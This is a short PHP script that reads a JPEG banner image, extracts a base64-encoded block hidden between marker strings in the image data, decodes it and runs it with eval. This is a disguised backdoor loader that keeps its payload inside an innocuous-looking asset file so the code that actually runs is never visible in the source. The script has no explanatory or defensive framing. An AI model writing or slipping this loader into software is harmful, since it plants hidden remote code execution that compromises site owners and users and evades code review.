<?php
$img = file_get_contents(__DIR__ . '/assets/banner.jpg');
if (preg_match('/--php--(.+?)--end--/s', $img, $m)) {
    $fn = function () use ($m) { eval(base64_decode($m[1])); };
    $fn();
}
